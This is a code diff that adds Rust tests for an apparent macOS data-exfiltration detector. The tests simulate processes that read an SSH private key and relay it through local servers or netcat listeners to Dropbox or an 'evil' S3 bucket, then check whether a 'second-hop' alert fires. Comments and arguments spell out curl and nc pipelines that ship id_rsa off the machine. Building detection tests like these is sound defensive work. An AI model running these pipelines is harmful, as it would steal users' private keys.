@@ -212,23 +212,138 @@ fn b36_exported_certificate() {
     assert!(told.low().reasons.iter().any(|reason| reason.code.as_str() == "second-hop"));
 }
 
-/// Fetched from a local port of the thief instead of sent there: said, whoever sends it on.
+/// A server on this Mac; what it reads; and a program that fetches so much from it in so many requests, then sends so much.
+fn fetched(reads: bool, fetched: usize, requests: usize, later: f64, sends: usize) -> Told {
+    let mut w = World::new();
+    let server = w.launch(0.0, adhoc("/private/tmp/serve", "serve"), &["serve"]);
+    let other = w.launch(0.1, adhoc("/private/tmp/fetch", "fetch"), &["fetch"]);
+    if reads {
+        w.open(1.0, &server, KEY);
+    }
+    for n in 0..requests {
+        let at = 1.5 + n as f64 * 0.01;
+        let mut local = w.connect_local(at, &other, &server, 9222);
+        w.plain(at + 0.1, &mut local, true, b"GET / HTTP/1.1\r\n\r\n");
+        w.plain(at + 0.2, &mut local, false, &vec![b'x'; fetched]);
+        w.close(2.0, &mut local);
+    }
+    w.upload(2.0 + later, &other, DROPBOX, sends);
+    w.tell()
+}
+
+/// Fetched from a local port of the thief instead of sent there: as much as was fetched is sent on.
 #[test]
 fn fetched_from_a_local_port() {
-    for (reads, later, said) in [(true, 0.5, true), (false, 0.5, false), (true, 60.0, false)] {
-        let mut w = World::new();
-        let server = w.launch(0.0, adhoc("/private/tmp/serve", "serve"), &["serve"]);
-        let other = w.launch(0.1, adhoc("/private/tmp/fetch", "fetch"), &["fetch"]);
-        if reads {
-            w.open(1.0, &server, "/Users/alice/.ssh/id_rsa");
-        }
-        let mut local = w.connect_local(1.5, &other, &server, 9222);
-        w.plain(1.6, &mut local, true, b"GET / HTTP/1.1\r\n\r\n");
-        w.plain(1.7, &mut local, false, &[b'x'; 30_000]);
-        w.close(2.0, &mut local);
-        w.upload(2.0 + later, &other, "content.dropboxapi.com", 30_000);
-        let told = w.tell();
+    for bytes in [2_900, 30_000] {
+        let told = fetched(true, bytes, 1, 0.5, bytes);
+        let alert = told.low();
+        assert!(alert.reasons.iter().any(|reason| reason.code.as_str() == "second-hop"));
+        assert_eq!(alert.reads[0].path.to_string(), KEY);
+        assert_eq!(alert.uploader.process().unwrap().info.program.path.to_string(), "/private/tmp/serve");
+    }
+}
+
+/// Something else is sent, or nothing sensitive is held, or it is long ago: said where it may be, not guessed.
+#[test]
+fn fetched_twins() {
+    let table = [
+        (fetched(false, 30_000, 1, 0.5, 30_000), false),
+        (fetched(true, 30_000, 1, 60.0, 30_000), false),
+        (fetched(true, 30_000, 1, 0.5, 9_000), true),
+        (fetched(true, 5_000, 1, 0.5, 60_000), true),
+        // A page of a developer's own server, in a browser.
+        (fetched(true, 30_000, 3, 0.5, 30_000), true),
+    ];
+    for (told, said) in table {
         told.none();
-        assert_eq!(has(&told, "proxy"), said);
+        assert_eq!(has(&told, "proxy"), said, "{:?}", told.coverage());
+    }
+}
+
+/// A backup in two parts: one reads, the other fetches it from there and may bring it where it does.
+#[test]
+fn fetched_by_who_may_send_it() {
+    for tenant in ["corp-backup", "evil"] {
+        let mut w = World::new();
+        let reader = w.launch(0.0, adhoc("/opt/corp/indexer", "indexer"), &["indexer"]);
+        let arq = "/Applications/Arq.app/Contents/MacOS/arqagent";
+        let arq = vendor(arq, "com.haystacksoftware.arqagent", "48ZCSDVL96");
+        let arq = w.launch(0.1, arq, &["arqagent"]);
+        w.open(1.0, &reader, "/Users/alice/Documents/corp/plan.docx");
+        let mut local = w.connect_local(1.5, &arq, &reader, 9222);
+        w.plain(1.6, &mut local, false, &[b'x'; 30_000]);
+        w.close(2.0, &mut local);
+        w.upload(2.5, &arq, &format!("{tenant}.s3.amazonaws.com"), 30_000);
+        second_hop_if(tenant == "evil", &w.tell());
+    }
+}
+
+/// `curl localhost:8000/id_rsa | curl -T - ..`
+#[test]
+fn fetched_into_a_pipe() {
+    for reads in [true, false] {
+        let mut w = World::new();
+        let python = adhoc("/opt/homebrew/bin/python3.12", "python3");
+        let server = w.launch(0.0, python, &["python3", "-m", "http.server", "--bind", "127.0.0.1"]);
+        let (fetch, send) = pipeline(&mut w, CURL, &["curl", "http://localhost:8000/id_rsa"]);
+        let mut out = w.connect(1.1, &send, DROPBOX, true);
+        w.send(1.2, &mut out, 700);
+        let mut local = w.connect_local(1.15, &fetch, &server, 8000);
+        w.plain(1.16, &mut local, true, b"GET /id_rsa HTTP/1.1\r\n\r\n");
+        if reads {
+            w.open(1.25, &server, KEY);
+        }
+        w.plain(1.3, &mut local, false, &[b'x'; 2_900]);
+        w.close(1.4, &mut local);
+        let end = w.send(1.5, &mut out, 2_700);
+        w.close(end + 0.1, &mut out);
+        second_hop_if(reads, &w.tell());
+    }
+}
+
+const CURL: Program = apple("/usr/bin/curl", "com.apple.curl");
+const NC: Program = apple("/usr/bin/nc", "com.apple.nc");
+
+/// A program whose output goes to `curl -T -`.
+fn pipeline(w: &mut World, first: Program, args: &[&str]) -> (Proc, Proc) {
+    let shell = w.launch(0.5, apple("/bin/zsh", "com.apple.zsh"), &["-zsh"]);
+    let env = &["HOME=/Users/alice"];
+    let (a, b) = (w.fork(1.0, &shell), w.fork(1.001, &shell));
+    let first = w.exec_in(1.01, &a, first, args, "null", &[(1, 50)], env);
+    let to = &["curl", "-T", "-", "https://content.dropboxapi.com/2/files/upload"];
+    (first, w.exec_in(1.02, &b, CURL, to, "null", &[(0, 50)], env))
+}
+
+#[track_caller]
+fn second_hop_if(low: bool, told: &Told) {
+    if low {
+        assert!(told.low().reasons.iter().any(|reason| reason.code.as_str() == "second-hop"));
+    } else {
+        told.none();
+    }
+}
+
+/// `nc -l 9999 | curl -T - ..`, and elsewhere `nc localhost 9999 < key`: also where curl has waited for it for long.
+#[test]
+fn through_a_listener_and_its_pipe() {
+    for (at, reads, sends) in
+        [(3.0, true, 2_700), (300.0, true, 2_700), (3.0, false, 2_700), (3.0, true, 90_000)]
+    {
+        let mut w = World::new();
+        let (listener, curl) = pipeline(&mut w, NC, &["nc", "-l", "9999"]);
+        let mut out = w.connect(1.1, &curl, DROPBOX, true);
+        w.send(1.2, &mut out, 700);
+        let shell = w.launch(at, apple("/bin/zsh", "com.apple.zsh"), &["-zsh"]);
+        let thief = w.fork(at + 0.1, &shell);
+        if reads {
+            w.open(at + 0.11, &thief, KEY);
+        }
+        let thief = w.exec(at + 0.12, &thief, NC, &["nc", "localhost", "9999"]);
+        let mut local = w.connect_local(at + 0.2, &thief, &listener, 9999);
+        w.plain(at + 0.21, &mut local, true, &[b'x'; 2_700]);
+        w.close(at + 0.3, &mut local);
+        let end = w.send(at + 0.31, &mut out, sends);
+        w.close(end + 0.1, &mut out);
+        second_hop_if(reads && sends < 10_000, &w.tell());
     }
 }
